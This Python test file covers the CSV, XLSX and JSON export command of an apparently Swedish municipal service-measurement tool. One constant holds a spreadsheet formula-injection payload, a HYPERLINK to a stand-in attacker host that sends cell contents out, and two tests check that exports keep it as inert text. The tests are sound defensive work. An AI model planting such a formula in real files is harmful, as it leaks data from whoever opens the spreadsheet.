"""``kkik export``: the results as CSV, XLSX (read back), JSON and Kolada JSON."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import Engine
from sqlmodel import Session

from harness.channels.email.store import MailStore
from harness.core.clock import SystemClock
from harness.store.models import Probe, ProbeState
from probes.email_analysis import TimingRules
from probes.imap_wire import FetchedMessage
from tests.factories import reply_to, seed_sent_probe

FRIDAY_1600 = datetime(2026, 10, 9, 14, 0, tzinfo=UTC)


@pytest.fixture
def config(tmp_path: Path, sqlite_engine: Engine) -> Path:
    path = tmp_path / "config.toml"
    path.write_text(f'[database]\nurl = "sqlite:///{sqlite_engine.url.database}"\n')
    answered = seed_sent_probe(sqlite_engine, sent_at=FRIDAY_1600, token="aaaa1111")
    seed_sent_probe(sqlite_engine, sent_at=FRIDAY_1600, token="bbbb2222")
    store = MailStore(sqlite_engine, SystemClock(), TimingRules())
    monday = FRIDAY_1600 + timedelta(days=3)
    store.ingest("INBOX", 1, FetchedMessage(1, monday, None, reply_to(answered, written_at=monday)))
    return path


def test_it_exports_one_row_per_municipality_and_measure(kkik, config: Path, tmp_path: Path):
    out = tmp_path / "kkik.csv"
    result = kkik(
        "--lang", "en", "--config", str(config), "export", "--format", "csv", "--out", str(out)
    )
    assert result.code == 0, result.err
    # The edition's five measures, then our own five e-mail measures (results.mail_quality).
    assert result.out == f"Wrote 10 rows to {out}.\n"
    text = out.read_bytes().decode("utf-8")
    assert text.startswith("\ufeffkommunkod,kommun,ar,measure,kpi_id,kpi_id_is_own,title,")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    email = next(r for r in rows if r["measure"] == "email_within_1_working_day")
    assert (email["kommunkod"], email["kommun"], email["ar"]) == ("2380", "Östersund", "2026")
    assert (email["value"], email["numerator"], email["denominator"]) == ("50", "1", "2")
    assert (email["kpi_id"], email["kpi_id_is_own"]) == ("email_within_1_working_day", "True")
    assert email["edition"] == "2018"
    bemotande = next(r for r in rows if r["measure"] == "phone_bemotande")
    assert (bemotande["kpi_id"], bemotande["kpi_id_is_own"], bemotande["value"]) == (
        "U00414",
        "False",
        "",
    )
    own = {r["measure"]: r for r in rows if r["measure"].startswith("email_") and
           r["measure"] not in ("email_within_1_working_day",)}  # fmt: skip
    assert set(own) == {
        "email_sender_complete", "email_answer_quality", "email_unanswered",
        "email_reply_hours_mean", "email_reply_hours_median",
    }  # fmt: skip
    assert all(r["kpi_id_is_own"] == "True" for r in own.values())
    assert own["email_unanswered"]["value"] == "50"
    assert own["email_sender_complete"]["awaiting_assessment"] == "1"  # answered, not assessed


def test_it_writes_an_xlsx_that_reads_back(kkik, config: Path, tmp_path: Path):
    out = tmp_path / "kkik.xlsx"
    result = kkik("--config", str(config), "export", "--format", "xlsx", "--out", str(out))
    assert result.code == 0, result.err
    assert result.out == f"Skrev 10 rader per kommun och mått och 2 rader per mätning till {out}.\n"
    book = openpyxl.load_workbook(out)
    # A sheet per level, the results open first.
    assert book.sheetnames == ["Per kommun och mått", "Per mätning"]
    sheet = book.active
    assert sheet is not None
    assert sheet.title == "Per kommun och mått"
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][:7] == (
        "Kommunkod",
        "Kommun",
        "År",
        "Mått",
        "Måttets id",
        "Kolada-id",
        "Värde",
    )
    header = list(values[0])
    assert {"Poäng", "Maxpoäng", "Bedömda samtal", "Konfidensintervall, nedre"} <= set(header)
    email = next(v for v in values if v[4] == "email_within_1_working_day")
    assert (email[0], email[1], email[2], email[3]) == (
        "2380", "Östersund", 2026, "Andel som får svar på e-post inom en arbetsdag",
    )  # fmt: skip
    at = {name: sheet.cell(row=values.index(email) + 1, column=i + 1) for i, name in
          enumerate(header)}  # fmt: skip
    assert (at["Värde"].value, at["Täljare"].value, at["Nämnare"].value) == (50, 1, 2)
    assert (at["Värde"].number_format, at["Konfidensintervall, nedre"].number_format) == (
        "0",
        "0.0",
    )
    assert (at["Konfidensintervall, nedre"].value, at["Enhet"].value) == (9.5, "procent")
    assert at["Kommunkod"].data_type == "s"  # "0180" keeps its zero
    probes = book["Per mätning"]
    assert [c.value for c in probes[1]][:7] == [
        "Mätningens id", "Kommunkod", "Kommun", "Kanal", "Planerad", "Skickad eller ringd",
        "Svar kom",
    ]  # fmt: skip
    answered = next(row for row in probes.iter_rows(min_row=2) if row[6].value is not None)
    # A real date cell in local time (the reply came Monday 16:00 in Stockholm).
    assert (answered[6].value, answered[6].data_type) == (
        datetime(2026, 10, 12, 16, 0, tzinfo=UTC).replace(tzinfo=None),
        "d",
    )
    assert answered[6].number_format == "yyyy-mm-dd hh:mm"
    assert (answered[3].value, answered[7].value, answered[8].value) == (
        "E-post",
        "klar",
        "besvarad",
    )
    formulas = [c.coordinate for ws in book for row in ws.iter_rows() for c in row
                if c.data_type == "f"]  # fmt: skip
    assert formulas == []


def test_it_writes_kolada_shaped_json(kkik, config: Path, tmp_path: Path):
    out = tmp_path / "kolada.json"
    result = kkik(
        "--config", str(config), "export", "--format", "json", "--kolada", "--edition", "2016",
        "--out", str(out),
    )  # fmt: skip
    assert result.code == 0, result.err
    data = json.loads(out.read_text(encoding="utf-8"))
    assert data == {
        "values": [
            {
                "kpi": "U00412",
                "municipality": "2380",
                "period": 2026,
                "values": [{"gender": "T", "value": 50, "count": 2}],
            }
        ]
    }
    misuse = kkik("--lang", "en", "--config", str(config), "export", "--format", "csv",
                  "--kolada", "--out", str(out))  # fmt: skip
    assert (misuse.code, misuse.err) == (2, "--kolada writes JSON; use --format json\n")


def test_the_evidence_export_leaves_out_personal_data_unless_asked(
    kkik, config: Path, tmp_path: Path
):
    plain, full = tmp_path / "plain.json", tmp_path / "full.json"
    args = ("--config", str(config), "export", "--format", "json", "--evidence", "--out")
    assert kkik(*args, str(plain)).code == 0
    assert kkik(*args, str(full), "--include-personal-data").code == 0
    rows = json.loads(plain.read_text(encoding="utf-8"))
    assert len(rows) == 2
    assert "Karin" not in plain.read_text(encoding="utf-8")
    answered = next(r for r in rows if r["answered_at"])
    assert answered["answered_at"] == "2026-10-12T16:00:00+02:00"
    with_names = json.loads(full.read_text(encoding="utf-8"))
    assert {r["reply_from_name"] for r in with_names} == {"Karin Berg", None}


# A municipality's reply whose sender name is a spreadsheet formula (issue 15, M4).
HOSTILE_NAME = '=HYPERLINK("http://attacker.example/?d="&A1,"Klicka här")'


@pytest.fixture
def hostile_config(tmp_path: Path, sqlite_engine: Engine) -> Path:
    path = tmp_path / "config.toml"
    path.write_text(f'[database]\nurl = "sqlite:///{sqlite_engine.url.database}"\n')
    answered = seed_sent_probe(sqlite_engine, sent_at=FRIDAY_1600, token="aaaa1111")
    store = MailStore(sqlite_engine, SystemClock(), TimingRules())
    monday = FRIDAY_1600 + timedelta(days=3)
    quoted = HOSTILE_NAME.replace("\\", "\\\\").replace('"', '\\"')
    raw = reply_to(answered, written_at=monday).replace(
        b"From: Karin Berg <", f'From: "{quoted}" <'.encode()
    )
    store.ingest("INBOX", 1, FetchedMessage(1, monday, None, raw))
    return path


def test_a_formula_in_a_reply_sender_stays_text_in_the_csv(
    kkik, hostile_config: Path, tmp_path: Path
):
    out = tmp_path / "evidence.csv"
    result = kkik("--config", str(hostile_config), "export", "--format", "csv", "--evidence",
                  "--include-personal-data", "--out", str(out))  # fmt: skip
    assert result.code == 0, result.err
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert rows[0]["reply_from_name"] == "'" + HOSTILE_NAME
    assert rows[0]["probe_id"] == "1"  # numbers stay as they were
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell


def test_a_formula_in_a_reply_sender_stays_text_in_the_xlsx(
    kkik, hostile_config: Path, tmp_path: Path
):
    out = tmp_path / "evidence.xlsx"
    result = kkik("--config", str(hostile_config), "export", "--format", "xlsx", "--evidence",
                  "--include-personal-data", "--out", str(out))  # fmt: skip
    assert result.code == 0, result.err
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["Per mätning"]  # --evidence: the probe level only
    sheet = book.active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    name = sheet.cell(row=2, column=header.index("Svarets avsändare") + 1)
    assert (name.value, name.data_type, name.quotePrefix) == (HOSTILE_NAME, "s", True)
    probe_id = sheet.cell(row=2, column=header.index("Mätningens id") + 1)
    assert (probe_id.value, probe_id.data_type) == (1, "n")
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_it_names_an_output_file_it_cannot_write(kkik, config: Path, tmp_path: Path):
    out = tmp_path / "saknas" / "kkik.csv"
    result = kkik(
        "--lang", "en", "--config", str(config), "export", "--format", "csv", "--out", str(out)
    )  # fmt: skip
    assert (result.code, result.out) == (2, "")
    assert result.err == f"{out}: cannot be written (No such file or directory)\n"


def _excel_rows(path: Path) -> list[dict[str, str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # without it Excel reads the bytes as Windows-1252
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_the_csv_for_swedish_excel_reads_back_in_columns(kkik, config: Path, tmp_path: Path):
    out = tmp_path / "kkik.csv"
    result = kkik("--config", str(config), "export", "--format", "csv-excel", "--out", str(out))
    assert (result.code, result.out) == (0, f"Skrev 10 rader till {out}.\n")
    rows = _excel_rows(out)
    assert list(rows[0])[:5] == ["Kommunkod", "Kommun", "År", "Mått", "Måttets id"]
    email = next(r for r in rows if r["Måttets id"] == "email_within_1_working_day")
    assert email["Mått"] == "Andel som får svar på e-post inom en arbetsdag"
    assert (email["Kommunkod"], email["Kommun"], email["År"]) == ("2380", "Östersund", "2026")
    assert (email["Värde"], email["Täljare"], email["Nämnare"]) == ("50", "1", "2")
    low, high = email["Konfidensintervall, nedre"], email["Konfidensintervall, övre"]
    assert (low, high) == ("9,5", "90,5")  # decimal commas
    assert (email["Enhet"], email["KKiK-utgåva"], email["Källa"]) == ("procent", "2018", "mätning")
    bemotande = next(r for r in rows if r["Måttets id"] == "phone_bemotande")
    assert (bemotande["Kolada-id"], bemotande["Värde"], bemotande["Bedömda samtal"]) == (
        "U00414",
        "",
        "0",
    )


def test_the_csv_for_swedish_excel_speaks_english_on_request(kkik, config: Path, tmp_path: Path):
    out = tmp_path / "kkik.csv"
    args = ("--lang", "en", "--config", str(config), "export", "--format", "csv-excel")
    assert kkik(*args, "--out", str(out)).code == 0
    rows = _excel_rows(out)
    email = next(r for r in rows if r["Measure id"] == "email_within_1_working_day")
    assert email["Measure"] == "E-mails answered within one working day"
    # The numbers stay Swedish: the file is for Swedish Excel, whatever the words.
    assert (email["Confidence interval, lower"], email["Unit"]) == ("9,5", "percent")


def test_the_evidence_for_swedish_excel_has_local_times(kkik, config: Path, tmp_path: Path):
    out = tmp_path / "matningar.csv"
    args = ("--config", str(config), "export", "--format", "csv-excel", "--evidence")
    assert kkik(*args, "--out", str(out)).code == 0
    rows = _excel_rows(out)
    answered = next(r for r in rows if r["Svar kom"])
    assert (answered["Skickad eller ringd"], answered["Svar kom"]) == (
        "2026-10-09 16:00",
        "2026-10-12 16:00",
    )
    assert (answered["Kanal"], answered["Status"], answered["Utfall"]) == (
        "E-post",
        "klar",
        "besvarad",
    )
    waiting = next(r for r in rows if not r["Svar kom"])
    assert (waiting["Status"], waiting["Utfall"]) == ("skickad, väntar på svar", "")


@pytest.mark.parametrize(
    ("args", "name"),
    [
        (("--format", "csv"), "kkik-export.csv"),
        (("--format", "csv-excel"), "kkik-export-excel.csv"),
        (("--format", "xlsx"), "kkik-export.xlsx"),
        (("--format", "json"), "kkik-export.json"),
        (("--format", "json", "--kolada"), "kkik-kolada.json"),
        (("--format", "csv-excel", "--evidence"), "kkik-evidence-excel.csv"),
    ],
)
def test_the_output_file_has_a_default_name(
    kkik, config: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, args, name: str
):
    monkeypatch.chdir(tmp_path)
    result = kkik("--config", str(config), "export", *args)
    assert result.code == 0, result.err
    assert result.out.endswith(f" till {name}.\n")
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith("kkik-")] == [name]
    assert (tmp_path / name).stat().st_size > 0


def test_an_export_without_results_says_why(kkik, tmp_path: Path, sqlite_engine: Engine):
    config = tmp_path / "config.toml"
    config.write_text(f'[database]\nurl = "sqlite:///{sqlite_engine.url.database}"\n')
    out = tmp_path / "kkik.csv"
    args = ("--config", str(config), "export", "--format", "csv-excel", "--out", str(out))
    none = kkik(*args)
    assert (none.code, none.out) == (1, "")
    assert none.err == (
        "Ingen kampanj i databasen; spara en plan med `kkik plan SCENARIO --save`.\n"
    )
    assert not out.exists()
    planned = seed_sent_probe(sqlite_engine, sent_at=FRIDAY_1600, token="aaaa1111")
    with Session(sqlite_engine) as session:
        probe = session.get(Probe, planned.probe_id)
        assert probe is not None
        probe.state, probe.sent_at = ProbeState.PLANNED, None
        session.add(probe)
        session.commit()
    result = kkik("--lang", "en", *args)
    assert result.code == 0, result.err
    assert result.out.splitlines() == [
        f"Wrote 0 rows to {out}.",
        "No results yet in KKiK hösten 2026: no question has been sent and no call placed "
        "(probes planned: 1); `kkik run` sends them when they are due.",
    ]
